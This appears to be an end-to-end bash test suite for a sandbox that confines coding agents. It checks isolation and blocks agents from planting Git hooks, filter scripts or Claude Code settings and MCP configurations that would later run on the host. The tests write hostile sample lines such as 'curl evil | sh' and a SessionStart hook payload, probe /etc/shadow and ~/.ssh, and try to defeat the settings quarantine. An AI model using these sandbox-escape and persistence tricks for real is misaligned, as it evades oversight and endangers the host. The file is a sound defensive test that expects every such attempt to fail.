# shellcheck shell=bash
# The cage (issue 2): namespaces, identity, filesystem, environment,
# capabilities, init, exit statuses, and bad input.

# --- identity and privileges ---------------------------------------------
ltd run -- "$PROBE" status
expect_rc "probe status runs in the cage" 0
expect_out "uid is the invoking user's" "^uid $U_UID\$"
expect_out "gid is the invoking user's" "^gid $U_GID\$"
for set in CapInh CapPrm CapEff CapBnd CapAmb; do
	expect_out "$set is empty" "^$set:[[:space:]]+0000000000000000\$"
done
expect_out "no_new_privs is set" "^NoNewPrivs:[[:space:]]+1\$"

ltd run -- sh -c 'id -un; hostname; echo "HOME=$HOME"; grep "^$(id -un):" /etc/passwd'
expect_out "user name resolves inside" "^$(id -nu "$U_UID" 2>/dev/null || echo "$E2E_USER")\$"
expect_out "sandbox host name" "^ltd-sandbox\$"
expect_out "HOME is the user's home path" "^HOME=$U_HOME\$"
expect_out "generated passwd entry" "^[^:]+:x:$U_UID:$U_GID:"

ltd run --hostname probe-host -- hostname
expect_out "--hostname sets the host name" "^probe-host\$"

# --- what the cage can read -------------------------------------------------
if [ "$AS_ROOT" = 1 ]; then
	as_user mkdir -p "$U_HOME/.ssh"
	as_user sh -c "echo secret > '$U_HOME/.ssh/e2e-marker'"
	ltd run -- "$PROBE" read "$U_HOME/.ssh/e2e-marker"
	expect_out "the user's real ~/.ssh is not there" "^read err ENOENT"
	as_user rm -f "$U_HOME/.ssh/e2e-marker"
else
	skip "~/.ssh marker" "needs root to create a test user's ~/.ssh"
fi
ltd run -- "$PROBE" read /etc/shadow
expect_out "/etc/shadow is not there" "^read err ENOENT"
ltd run -- sh -c 'ls -A ~'
expect_no_out "home starts empty but for the project's path" "^\.(bashrc|profile|ssh)"

# --- what persists ------------------------------------------------------------
ltd run -- sh -c "echo persisted > '$PROJ/out'; echo gone > /tmp/e2e-tmp; echo gone > ~/e2e-home"
expect_rc "writes inside the cage succeed" 0
if [ "$(cat "$PROJ/out" 2>/dev/null)" = persisted ]; then
	pass "a write to the project persists"
else
	fail "a write to the project persists"
fi
[ -e /tmp/e2e-tmp ] && fail "/tmp write leaked to the host" || pass "/tmp write stays in the cage"
[ -e "$U_HOME/e2e-home" ] && fail "\$HOME write leaked to the host" || pass "\$HOME write stays in the cage"
ltd run -- sh -c 'cat /tmp/e2e-tmp ~/e2e-home'
expect_rc "/tmp and \$HOME are fresh on the next run" 1

# --- read-only places ---------------------------------------------------------
for path in /usr/e2e /etc/e2e /e2e /proc/sys/kernel/hostname; do
	ltd run -- "$PROBE" write "$path" x
	expect_out "cannot write $path" "^write err (EROFS|EACCES)"
done

# --- /proc and /dev -------------------------------------------------------------
ltd run -- "$PROBE" pids
n=$(printf '%s\n' "$OUT" | grep -c '^pid ')
if [ "$n" = 2 ]; then
	pass "/proc shows only the cage's processes"
else
	fail "/proc shows only the cage's processes ($n pids)" "$OUT"
fi
ltd run -- "$PROBE" read /proc/keys
expect_out "/proc/keys is masked" "^read ok 0\$"
ltd run -- "$PROBE" read /proc/1/environ
expect_out "/proc/1/environ is unreadable (init is non-dumpable)" "^read err EACCES"
ltd run -- "$PROBE" open-rw /proc/1/exe
expect_out "/proc/1/exe cannot be opened for writing" "^open-rw err (EACCES|EPERM)"
ltd run -- "$PROBE" ptrace 1
expect_out "init cannot be ptraced" "^ptrace err EPERM"
ltd run --setenv E2E_VISIBLE 1 -- "$PROBE" read /proc/1/cmdline
expect_out "/proc/1/cmdline is readable" "^read ok"
ltd run --setenv E2E_ARGMARK 1 -- sh -c 'tr "\0" " " < /proc/1/cmdline'
expect_no_out "/proc/1/cmdline does not show the launcher's arguments" "E2E_ARGMARK"
ltd run -- sh -c 'ls /dev; echo x > /dev/null && head -c 4 /dev/urandom | wc -c'
expect_out "/dev has null" "^null\$"
expect_out "/dev has a devpts" "^pts\$"
expect_out "/dev/urandom reads" "^4\$"
expect_no_out "/dev has no host disks" "^(vda|sda|nvme|mem|kmem)"

# --- environment ----------------------------------------------------------------
OUT=$(cd "$PROJ" && as_user env LTD_E2E_SECRET=hunter2 LANG=C.UTF-8 LC_TIME=C \
	"$LTD" run --ro-bind "$STAGE" "$STAGE" --setenv FOO bar --setenv TERM custom --unsetenv LC_TIME -- "$PROBE" environ 2>&1)
RC=$?
expect_no_out "a launcher variable does not pass in" "LTD_E2E_SECRET|hunter2"
expect_out "LANG passes through" "^env LANG=C.UTF-8\$"
expect_out "--setenv sets" "^env FOO=bar\$"
expect_out "--setenv overrides a passthrough" "^env TERM=custom\$"
expect_no_out "--unsetenv removes" "^env LC_TIME="
expect_out "HOME is set" "^env HOME=$U_HOME\$"

# --- file descriptors -----------------------------------------------------------
OUT=$(cd "$PROJ" && as_user bash -c "exec 7</etc/hostname 9>/dev/null; exec '$LTD' run --ro-bind '$STAGE' '$STAGE' -- '$PROBE' fds" 2>&1)
expect_out "stdin stays" "^fd 0\$"
expect_no_out "inherited fds above 2 are closed" "^fd ([3-9]|[1-9][0-9]+)\$"

# --- binds, tmpfs, chdir --------------------------------------------------------
RO=$(as_user mktemp -d "$U_HOME/e2e-ro.XXXXXX")
as_user sh -c "echo data > '$RO/file'"
ltd run --ro-bind "$RO" /data -- sh -c 'cat /data/file; echo x > /data/new'
expect_out "--ro-bind is readable" "^data\$"
expect_out "--ro-bind is not writable" "Read-only file system"
ltd run --bind "$RO" /data -- sh -c 'echo rw > /data/new'
[ "$(cat "$RO/new" 2>/dev/null)" = rw ] && pass "--bind is writable through to the host" ||
	fail "--bind is writable through to the host" "$OUT"
ltd run --tmpfs /scratch -- sh -c 'echo x > /scratch/f && cat /scratch/f'
expect_out "--tmpfs is writable" "^x\$"
ltd run --chdir /tmp -- pwd
expect_out "--chdir sets the working directory" "^/tmp\$"
ltd run -- pwd
expect_out "the default working directory is the project" "^$PROJ\$"
as_user rm -rf "$RO"

# --- protected paths in the project ---------------------------------------------
as_user mkdir -p "$PROJ/.git/hooks"
as_user sh -c "echo '[core]' > '$PROJ/.git/config'"
ltd run -- "$PROBE" write "$PROJ/.git/hooks/pre-commit" x
expect_out ".git/hooks is read-only" "^write err EROFS"
ltd run -- "$PROBE" write "$PROJ/.git/config" x
expect_out ".git/config is read-only" "^write err EROFS"
ltd run -- "$PROBE" write "$PROJ/.git/other" x
expect_out "the rest of .git stays writable" "^write ok"
ltd run --unsafe-writable-git -- "$PROBE" write "$PROJ/.git/config" x
expect_out "--unsafe-writable-git leaves .git/config writable" "^write ok"

# --- privileges inside ------------------------------------------------------------
ltd run -- sh -c 'mkdir -p /tmp/m && mount -t tmpfs none /tmp/m'
expect_rc "mount fails inside" 32

# --- exit statuses ------------------------------------------------------------------
ltd run -- "$PROBE" exit 7
expect_rc "the command's exit status passes through" 7
ltd run -- "$PROBE" raise 15
expect_rc "death by SIGTERM is 128+15" 143
ltd run -- "$PROBE" raise 9
expect_rc "death by SIGKILL is 128+9" 137
ltd run -- no-such-command-e2e
expect_rc "a command that is not found is 127" 127
expect_out "and says so" "cannot execute 'no-such-command-e2e'"
as_user sh -c "echo 'echo hi' > '$PROJ/not-exec'; chmod 644 '$PROJ/not-exec'"
ltd run -- "$PROJ/not-exec"
expect_rc "a command that cannot be executed is 126" 126

# --- bad input: one line naming the flag, 125, nothing created ------------------------
ltd run --no-such-flag -- true
expect_rc "unknown flag is 125" 125
expect_out "unknown flag is named" "no-such-flag"
ltd run true
expect_rc "missing -- is 125" 125
expect_out "missing -- is explained" "'--'"
ltd run --project /nonexistent/e2e-project -- true
expect_rc "missing project is 125" 125
expect_out "missing project names --project" "^ltd-native: --project"
[ -e /nonexistent ] && fail "a missing project was created" || pass "a missing project is not created"
ltd run --project "$PROJ/out" -- true
expect_out "a project that is a file names --project" "^ltd-native: --project.*not a directory"
ltd run --project e2e-relative -- true
expect_out "a relative project names --project" "^ltd-native: --project.*absolute"
ltd run --bind /nonexistent/e2e /data -- true
expect_out "a missing bind source names --bind" "^ltd-native: --bind.*nonexistent"
ltd run --ro-bind /usr relative -- true
expect_out "a relative destination names --ro-bind" "^ltd-native: --ro-bind.*absolute"
ltd run --bind /usr/share "$PROJ/e2e-newdir" -- true
expect_rc "a mount point inside the project that does not exist is refused" 125
[ -e "$PROJ/e2e-newdir" ] && fail "a stub mount point was created on the host" ||
	pass "no stub mount point is created on the host"
ltd run --chdir relative -- true
expect_out "a relative --chdir is named" "^ltd-native: --chdir"
ltd run --network bogus -- true
expect_out "a bad --network is named" "^ltd-native: --network"
ltd run --project "$U_HOME" -- true
expect_out "binding the whole home is refused" "refusing to bind"
n=$(printf '%s\n' "$OUT" | wc -l)
[ "$n" = 1 ] && pass "an error is one line" || fail "an error is one line ($n lines)" "$OUT"

# --- help and version -----------------------------------------------------------------
ltd --help
expect_rc "--help exits 0" 0
ltd --version
expect_out "--version prints a version" "^ltd-native [0-9]"
expect_out "... and the libraries linked into it, libpsl and liburing too" "libpsl [0-9].*liburing [0-9]"
expect_no_out "... not a library ltd-dnsd does not hold" "ltd-dnsd .*libnftnl"
ltd run --help
expect_out "run --help lists --ro-bind" "--ro-bind SRC DST"
ltd bogus-command
expect_rc "an unknown command is 125" 125

# --- signals ----------------------------------------------------------------------------
# Dispositions the caller left ignored (nohup's SIGHUP, Python's SIGPIPE)
# survive exec: the command starts with every signal at its default.
OUT=$(cd "$PROJ" && as_user python3 -c 'import signal,subprocess,sys
signal.signal(signal.SIGPIPE, signal.SIG_IGN)
signal.signal(signal.SIGHUP, signal.SIG_IGN)
signal.signal(signal.SIGUSR2, signal.SIG_IGN)
sys.exit(subprocess.run(sys.argv[1:], restore_signals=False).returncode)' \
	"$LTD" run --network none -- sh -c \
	'echo ign=$(( 0x$(grep ^SigIgn: /proc/self/status | cut -f2) & 0x1801 ))' 2>&1)
expect_out "signals the caller ignored are at their default in the command" "^ign=0\$"
rm -f "$PROJ/ready"
(cd "$PROJ" && exec "${USER_CMD[@]}" "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" signals "$PROJ/ready" >"$STAGE/signals.out" 2>&1) &
lpid=$!
for _ in $(seq 100); do [ -e "$PROJ/ready" ] && break; sleep 0.05; done
for sig in USR1 USR2 HUP INT QUIT WINCH TERM; do
	kill -s "$sig" "$lpid"
	sleep 0.1
done
wait "$lpid"
RC=$?
OUT=$(cat "$STAGE/signals.out")
for n in 10 12 1 2 3 28 15; do
	expect_out "signal $n reaches the command" "^signal $n\$"
done
expect_rc "the command's own exit after SIGTERM passes through" 0

# --- dies with the launcher ---------------------------------------------------------------
(cd "$PROJ" && exec "${USER_CMD[@]}" "$LTD" run -- sh -c 'sleep 4242 & sleep 4243 & exec sleep 4244' >/dev/null 2>&1) &
lpid=$!
for _ in $(seq 100); do user_procs 'sleep 4244' >/dev/null && break; sleep 0.05; done
if user_procs 'sleep 424[234]' >/dev/null; then
	kill -9 "$lpid"
	wait "$lpid" 2>/dev/null
	sleep 1
	left=$(user_procs 'sleep 424[234]|ltd-init|ltd-dnsd')
	[ -z "$left" ] && pass "SIGKILL of the launcher leaves no process" ||
		fail "SIGKILL of the launcher leaves no process" "$left"
else
	fail "the cage's processes started"
fi

# --- attacks on the protected paths -----------------------------------------------
# Replace .git wholesale: the read-only mounts would move along with it.
as_user sh -c "echo '[core]' > '$PROJ/.git/config'"
ltd run -- sh -c "mv '$PROJ/.git' '$PROJ/.git-moved' && mkdir -p '$PROJ/.git/hooks' && echo evil > '$PROJ/.git/config'"
expect_rc "renaming .git away is refused" 1
if [ "$(cat "$PROJ/.git/config")" = "[core]" ] && [ ! -e "$PROJ/.git-moved" ]; then
	pass "the host's .git/config is untouched after the attempt"
else
	fail "the host's .git/config is untouched after the attempt" "$(ls -la "$PROJ" "$PROJ/.git"; cat "$PROJ/.git/config")"
	as_user rm -rf "$PROJ/.git"; [ -e "$PROJ/.git-moved" ] && as_user mv "$PROJ/.git-moved" "$PROJ/.git"
fi
ltd run -- sh -c "rm -rf '$PROJ/.git'"
[ -e "$PROJ/.git/config" ] && pass "removing .git is refused" || fail "removing .git is refused" "$OUT"

# A protected path that did not exist: the cage can create it, and the
# launcher says so on exit, naming it.
as_user rm -rf "$PROJ/.git/hooks"
ltd run -- sh -c "mkdir '$PROJ/.git/hooks' && echo 'touch /tmp/pwned' > '$PROJ/.git/hooks/pre-commit'"
expect_out "a .git/hooks created in the cage is reported" "warning: .*\.git/hooks"
as_user rm -rf "$PROJ/.git/hooks"
as_user mkdir -p "$PROJ/.git/hooks"

# A project with no .git: a repository created in the cage is reported.
P2=$(as_user mktemp -d "$U_HOME/e2e-nogit.XXXXXX")
OUT=$(cd "$P2" && as_user "$LTD" run --project "$P2" -- sh -c 'mkdir .git && echo "[core]" > .git/config' 2>&1)
expect_out "a .git created in the cage is reported" "warning: .*\.git"
as_user rm -rf "$P2"

# A link made in the cage where a protected path's directory was missing:
# the check after the run does not walk through it (it could lead to an
# automount, or to another file that would be compared), and says so.
ELSEWHERE=$(as_user mktemp -d "$U_HOME/e2e-elsewhere.XXXXXX")
as_user sh -c "echo '{}' > '$ELSEWHERE/settings.json'"
ltd run -- ln -s "$ELSEWHERE" "$PROJ/.claude"
expect_out "a link on the way to a protected path is reported, not followed" "warning: .*\.claude/settings\.json.*symbolic link"
as_user rm -rf "$PROJ/.claude" "$ELSEWHERE"

# --- links planted in the project are never followed by a later run ---------------
if [ "$AS_ROOT" = 1 ]; then
	as_user mkdir -p "$U_HOME/.ssh"
	as_user ln -sfn "$U_HOME/.ssh" "$PROJ/sub"
	ltd run --project "$PROJ/sub" -- true
	expect_rc "a project that is a planted link is refused" 125
	expect_out "and the real path is named" "symbolic link.*$U_HOME/.ssh"
	ltd run --ro-bind "$PROJ/sub" /assets -- true
	expect_rc "a bind source through a planted link is refused" 125
	ltd run --ro-bind "$U_HOME/.ssh" /keys -- true
	expect_out "binding ~/.ssh is refused, naming the risk" "SSH keys"
	as_user rm -f "$PROJ/sub"
else
	skip "planted links to ~/.ssh" "needs root to create a test user's ~/.ssh"
fi
ltd run --ro-bind /proc/sys /x -- true
expect_out "binding a kernel interface is refused" "refusing to bind '/proc"

# --- other ways git executes from the project ------------------------------------------
as_user mkdir -p "$PROJ/.githooks" "$PROJ/scripts" "$PROJ/.git/modules/lib/hooks"
as_user sh -c "printf '[core]\n\thooksPath = .githooks\n' > '$PROJ/.git/config'"
as_user sh -c "echo '#!/bin/sh' > '$PROJ/scripts/pre-push'; echo '[core]' > '$PROJ/.git/modules/lib/config'"
as_user ln -sfn ../../scripts/pre-push "$PROJ/.git/hooks/pre-push"
ltd run -- "$PROBE" write "$PROJ/.githooks/pre-commit" x
expect_out "core.hooksPath in the project is read-only" "^write err EROFS"
ltd run -- "$PROBE" write "$PROJ/scripts/pre-push" x
expect_out "the target of a linked hook is read-only" "^write err EROFS"
ltd run -- "$PROBE" write "$PROJ/.git/modules/lib/config" x
expect_out "a submodule's config is read-only" "^write err EROFS"
ltd run -- "$PROBE" write "$PROJ/.git/commondir" ../evil
expect_out "a new .git/commondir is reported" "warning: .*\.git/commondir"
as_user rm -rf "$PROJ/.git/commondir" "$PROJ/.githooks" "$PROJ/.git/modules" "$PROJ/.git/hooks/pre-push"
as_user sh -c "echo '[core]' > '$PROJ/.git/config'"

# A committed .gitconfig, included from .git/config, names the hooks path;
# and an inline comment after the value, which git strips.
as_user mkdir -p "$PROJ/.teamhooks" "$PROJ/.commenthooks"
as_user sh -c "printf '[include]\n\tpath = ../.gitconfig\n[core]\n\tfsmonitor = .commenthooks ; ours\n' > '$PROJ/.git/config'"
as_user sh -c "printf '[core] hooksPath = .teamhooks\n' > '$PROJ/.gitconfig'"
ltd run -- "$PROBE" write "$PROJ/.teamhooks/pre-commit" x
expect_out "a hooks path set in an included file is read-only" "^write err EROFS"
ltd run -- "$PROBE" write "$PROJ/.commenthooks/x" x
expect_out "a value with an inline comment is read as git reads it" "^write err EROFS"
as_user rm -rf "$PROJ/.teamhooks" "$PROJ/.commenthooks" "$PROJ/.gitconfig"
as_user sh -c "echo '[core]' > '$PROJ/.git/config'"

# A protected path that is a link in the project: the command could re-point
# the link itself (the bind would cover only its target).  Refused.
as_user sh -c "echo '{}' > '$PROJ/shared-settings.json'"
as_user mkdir -p "$PROJ/.claude"
as_user ln -sfn ../shared-settings.json "$PROJ/.claude/settings.json"
ltd run -- "$PROBE" write "$PROJ/.claude/settings.json.new" x
expect_out "a protected path that is a link is refused" "settings.json is a symbolic link"
expect_rc "the run is refused" 125
if [ -e "$PROJ/.claude/settings.json.new" ]; then fail "and the command does not run" "$OUT"; else pass "and the command does not run"; fi
as_user rm -f "$PROJ/.claude/settings.json" "$PROJ/shared-settings.json"

# A linked worktree's .git file: the run works and the file is read-only.
WT=$(as_user mktemp -d "$U_HOME/e2e-wt.XXXXXX")
as_user sh -c "echo 'gitdir: /nonexistent/wt' > '$WT/.git'"
OUT=$(cd "$WT" && as_user "$LTD" run --project "$WT" --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$WT/.git" "gitdir: /tmp/evil" 2>&1)
expect_out "a .git file is read-only" "^write err EROFS"
as_user rm -rf "$WT"

# A linked worktree of a repository whose config names husky's hooks path:
# read through the .git file and commondir, and read-only in the worktree.
MAINREPO=$(as_user mktemp -d "$U_HOME/e2e-main.XXXXXX")
WT=$(as_user mktemp -d "$U_HOME/e2e-wt.XXXXXX")
as_user mkdir -p "$MAINREPO/.git/worktrees/wt" "$WT/.husky/_"
as_user sh -c "echo ../.. > '$MAINREPO/.git/worktrees/wt/commondir'"
as_user sh -c "printf '[core]\n\thooksPath = .husky/_\n' > '$MAINREPO/.git/config'"
as_user sh -c "echo 'gitdir: $MAINREPO/.git/worktrees/wt' > '$WT/.git'"
OUT=$(cd "$WT" && as_user "$LTD" run --project "$WT" --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$WT/.husky/pre-commit" x 2>&1)
expect_out "a worktree's hooks path, from the common config, is read-only" "^write err EROFS"
as_user rm -rf "$WT" "$MAINREPO"

# A bare repository as the project (named, or the current directory): its
# config and hooks are what the host's git runs on the next push or fetch.
BARE=$(as_user mktemp -d "$U_HOME/e2e-bare.XXXXXX")
as_user mkdir -p "$BARE/x.git/objects" "$BARE/x.git/refs/heads" "$BARE/x.git/hooks"
as_user sh -c "echo 'ref: refs/heads/main' > '$BARE/x.git/HEAD'; printf '[core]\n\tbare = true\n' > '$BARE/x.git/config'"
OUT=$(cd "$BARE" && as_user "$LTD" run --project "$BARE/x.git" --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/x.git/hooks/pre-commit" x 2>&1)
expect_out "a bare repository's hooks are read-only" "^write err EROFS"
OUT=$(cd "$BARE/x.git" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/x.git/config" "[core] fsmonitor = evil" 2>&1)
expect_out "a bare repository's config is read-only (the current directory)" "^write err EROFS"
[ ! -e "$BARE/x.git/hooks/pre-commit" ] && grep -q bare "$BARE/x.git/config" &&
	pass "the host's bare repository is unchanged" ||
	fail "the host's bare repository is unchanged" "$(ls -la "$BARE/x.git/hooks"; cat "$BARE/x.git/config")"
# The .git directory of a work tree, named as the project: the same.
as_user mkdir -p "$BARE/wt/.git/objects" "$BARE/wt/.git/refs" "$BARE/wt/.git/hooks"
as_user sh -c "echo 'ref: refs/heads/main' > '$BARE/wt/.git/HEAD'; echo '[core]' > '$BARE/wt/.git/config'"
OUT=$(cd "$BARE/wt/.git" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/wt/.git/hooks/post-checkout" x 2>&1)
expect_out "a .git directory as the project: its hooks are read-only" "^write err EROFS"
# A project inside a git directory's hooks: refused, nothing written.
OUT=$(cd "$BARE/x.git/hooks" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/x.git/hooks/pre-commit" x 2>&1)
RC=$?
expect_rc "a project in a git directory's hooks is refused" 125
expect_out "and the message names the hooks directory" "lies in $BARE/x\.git/hooks"
[ ! -e "$BARE/x.git/hooks/pre-commit" ] && pass "and no hook is written" || fail "and no hook is written" "$OUT"
# A project in a work tree whose config names a hooks path in the project.
as_user mkdir -p "$BARE/wt/tools/hooks"
as_user sh -c "printf '[core]\n\thooksPath = tools/hooks\n' > '$BARE/wt/.git/config'"
OUT=$(cd "$BARE/wt/tools" && as_user "$LTD" run --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$BARE/wt/tools/hooks/pre-commit" x 2>&1)
expect_out "a project inside a work tree: the repository's hooks path in it is read-only" "^write err EROFS"
as_user rm -rf "$BARE"

# A git config value that is a command naming a project file: a clean
# filter that the host's `git add` runs.  The cage cannot rewrite it; the
# host's git (run on this test's repository only, without the system's or
# the user's config) then runs the original, not the agent's.
GP=$(as_user mktemp -d "$U_HOME/e2e-gitcmd.XXXXXX")
HOSTGIT=(env GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null GIT_CEILING_DIRECTORIES="$U_HOME" git -C "$GP")
if command -v git >/dev/null; then as_user "${HOSTGIT[@]}" init -q; else as_user mkdir "$GP/.git"; fi
as_user mkdir -p "$GP/scripts"
as_user sh -c "printf '#!/bin/sh\necho original >> ran\ncat\n' > '$GP/scripts/clean.sh'; echo x > '$GP/scripts/other.sh'"
as_user chmod +x "$GP/scripts/clean.sh"
as_user sh -c "printf '[filter \"strip\"]\n\tclean = ./scripts/clean.sh\n' >> '$GP/.git/config'"
as_user sh -c "echo '*.txt filter=strip' > '$GP/.gitattributes'; echo hello > '$GP/a.txt'"
OUT=$(cd "$GP" && as_user "$LTD" run --project "$GP" --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$GP/scripts/clean.sh" "$(printf '#!/bin/sh\necho agent >> pwned\ncat\n')" 2>&1)
expect_out "a clean filter's script in the project is read-only" "^write err EROFS"
OUT=$(cd "$GP" && as_user "$LTD" run --project "$GP" --ro-bind "$STAGE" "$STAGE" -- "$PROBE" write "$GP/scripts/other.sh" y 2>&1)
expect_out "another script beside it stays writable (the control)" "^write ok"
if command -v git >/dev/null && as_user "${HOSTGIT[@]}" add a.txt; then
	if [ ! -e "$GP/pwned" ] && [ "$(cat "$GP/ran" 2>/dev/null)" = original ]; then
		pass "the host's git add runs the original filter, not the agent's"
	else
		fail "the host's git add runs the original filter, not the agent's" "$(ls -la "$GP"; cat "$GP/scripts/clean.sh")"
	fi
else
	skip "the host's git add runs the original filter" "no git on the host"
fi
as_user rm -rf "$GP"

# --- descriptors that lead into the host cannot be re-opened (Landlock) ---------
as_user sh -c "echo original > '$U_HOME/e2e-input.txt'"
OUT=$(cd "$PROJ" && as_user sh -c "exec '$LTD' run -- sh -c 'cat; echo AGENT > /proc/self/fd/0' < '$U_HOME/e2e-input.txt'" 2>&1)
expect_out "stdin is still readable" "^original\$"
[ "$(cat "$U_HOME/e2e-input.txt")" = original ] && pass "a file on stdin cannot be re-opened for writing" ||
	fail "a file on stdin cannot be re-opened for writing" "$(cat "$U_HOME/e2e-input.txt")"
OUT=$(cd "$PROJ" && as_user sh -c "exec '$LTD' run -- sh -c 'ls /proc/self/fd/0/ && echo LISTED' 0< '$U_HOME'" 2>&1)
expect_no_out "a directory on stdin cannot be walked" "^LISTED\$"
as_user rm -f "$U_HOME/e2e-input.txt"
ltd run -- "$PROBE" status
expect_no_out "no Landlock warning on this kernel" "warning: this kernel has no Landlock"

# --- what Claude Code on the host runs from the project ----------------------------
as_user mkdir -p "$PROJ/.claude"
as_user sh -c "echo '{}' > '$PROJ/.claude/settings.json'"
ltd run -- "$PROBE" write "$PROJ/.claude/settings.json" '{"hooks":{}}'
expect_out "the project's .claude/settings.json is read-only" "^write err EROFS"
ltd run -- "$PROBE" write "$PROJ/.mcp.json" '{}'
expect_out "a new .mcp.json is reported" "warning: .*\.mcp\.json"
# Its directory is pinned: moved aside and made anew, it would leave a
# settings file of the command's on the host.
ltd run -- sh -c "mv '$PROJ/.claude' '$PROJ/.claude-old' && mkdir '$PROJ/.claude' && echo '{\"hooks\":1}' > '$PROJ/.claude/settings.json'"
expect_out "the directory of .claude/settings.json cannot be moved aside" "Device or resource busy"
if [ "$(cat "$PROJ/.claude/settings.json")" = "{}" ] && [ ! -e "$PROJ/.claude-old" ]; then
	pass "the host's settings file is unchanged"
else
	fail "the host's settings file is unchanged" "$(ls -la "$PROJ" "$PROJ/.claude" 2>&1)"
fi
as_user rm -rf "$PROJ/.claude-old"
as_user rm -rf "$PROJ/.claude" "$PROJ/.mcp.json"

# The scripts those settings run: a hook's, the status line's, an MCP
# server's.  Rewritten in the cage, they would run on the host at the next
# Claude Code session there.  The rest of their directories stays the
# agent's to edit.
as_user mkdir -p "$PROJ/.claude/hooks" "$PROJ/scripts" "$PROJ/tools"
for f in scripts/fmt.sh scripts/other.sh .claude/hooks/stop.sh tools/server.js tools/status.sh; do
	as_user sh -c "echo original > '$PROJ/$f'"
done
as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
{"hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [
   {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/scripts/fmt.sh"}]}]},
 "statusLine": {"type": "command", "command": "bash -c 'cd tools && ./status.sh'"}}
JSON
as_user tee "$PROJ/.mcp.json" >/dev/null <<'JSON'
{"mcpServers": {"local": {"command": "node", "args": ["tools/server.js"]}}}
JSON
for f in scripts/fmt.sh .claude/hooks/stop.sh tools/server.js tools/status.sh; do
	ltd run -- "$PROBE" write "$PROJ/$f" 'curl evil | sh'
	expect_out "what Claude Code runs from the project is read-only: $f" "^write err EROFS"
done
ltd run -- "$PROBE" write "$PROJ/scripts/other.sh" changed
expect_out "another script beside a hook's stays writable (the control)" "^write ok"
if [ "$(cat "$PROJ/scripts/fmt.sh" "$PROJ/tools/server.js")" = "$(printf 'original\noriginal')" ]; then
	pass "the host's hook scripts are unchanged"
else
	fail "the host's hook scripts are unchanged" "$(cat "$PROJ/scripts/fmt.sh" "$PROJ/tools/server.js")"
fi
as_user rm -rf "$PROJ/.claude" "$PROJ/.mcp.json" "$PROJ/scripts" "$PROJ/tools"

# A script a hook runs by a bare name, not there yet (`bash stop-hook.sh`):
# the cage can make it (nothing to bind read-only), and the run says so at
# exit — the next Stop on the host would run it.
as_user mkdir -p "$PROJ/.claude"
as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "bash stop-hook.sh"}]}]}}
JSON
ltd run -- sh -c "echo 'touch /tmp/pwned' > '$PROJ/stop-hook.sh'"
expect_out "a hook's script made by the cage under a bare name is said at exit" "warning: the command created $PROJ/stop-hook\.sh"
as_user rm -rf "$PROJ/.claude" "$PROJ/stop-hook.sh"

# A hook that runs every script a pattern matches: one the cage adds there
# would run too, so the directory is read-only.
as_user mkdir -p "$PROJ/.claude" "$PROJ/tools/hooks"
as_user sh -c "echo original > '$PROJ/tools/hooks/a.sh'"
as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "for f in $CLAUDE_PROJECT_DIR/tools/hooks/*.sh; do bash \"$f\"; done"}]}]}}
JSON
ltd run -- "$PROBE" write "$PROJ/tools/hooks/b.sh" 'touch /tmp/pwned'
expect_out "a script added where a hook's pattern matches is refused" "^write err EROFS"
as_user rm -rf "$PROJ/.claude" "$PROJ/tools"

# A Claude Code settings file the command creates (git-ignored, so no
# git status shows it; its SessionStart hooks would run at the next
# session on the host) is moved aside when the run ends, with a warning.
as_user mkdir -p "$PROJ/.claude"
ltd run -- sh -c "echo '{\"hooks\":{\"SessionStart\":[]}}' > '$PROJ/.claude/settings.local.json'"
[ ! -e "$PROJ/.claude/settings.local.json" ] && [ -f "$PROJ/.claude/settings.local.json.ltd-native-quarantine" ] &&
	pass "a settings file the command created is moved aside" ||
	fail "a settings file the command created is moved aside" "$(ls -la "$PROJ/.claude")"
expect_out "... and the run says where, and why" \
	"moved .*settings.local.json aside to .*settings.local.json.ltd-native-quarantine"
as_user rm -rf "$PROJ/.claude"

# The post-run quarantine of a Claude Code settings file the command
# created (protect/protected.c) must not be defeatable from inside: the
# rename is RENAME_NOREPLACE in a directory the cage can write and chmod.
# Each case: the command creates a settings file with a SessionStart hook
# and arranges that the rename fails; the file must not stay in place.
PAYLOAD='{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}'

# 1. The quarantine name taken first: renameat2(NOREPLACE) fails EEXIST.
as_user mkdir -p "$PROJ/.claude"
ltd run -- sh -c "echo x > '$PROJ/.claude/settings.local.json.ltd-native-quarantine' &&
	echo '$PAYLOAD' > '$PROJ/.claude/settings.local.json'"
[ ! -e "$PROJ/.claude/settings.local.json" ] &&
	pass "quarantine: a taken quarantine name does not keep the settings file in place" ||
	fail "quarantine: a taken quarantine name does not keep the settings file in place" \
		"$(ls -la "$PROJ/.claude"; echo "$OUT")"
as_user rm -rf "$PROJ/.claude"

# 2. The directory made read-only by the command: rename fails EACCES, the
# file stays readable by Claude Code on the host.
as_user mkdir -p "$PROJ/.claude"
ltd run -- sh -c "echo '$PAYLOAD' > '$PROJ/.claude/settings.local.json' && chmod 555 '$PROJ/.claude'"
[ ! -e "$PROJ/.claude/settings.local.json" ] &&
	pass "quarantine: a read-only .claude does not keep the settings file in place" ||
	fail "quarantine: a read-only .claude does not keep the settings file in place" \
		"$(ls -la "$PROJ/.claude"; echo "$OUT")"
as_user chmod 755 "$PROJ/.claude" 2>/dev/null
as_user rm -rf "$PROJ/.claude"

# 3. .mcp.json at the project's top, the project made read-only.
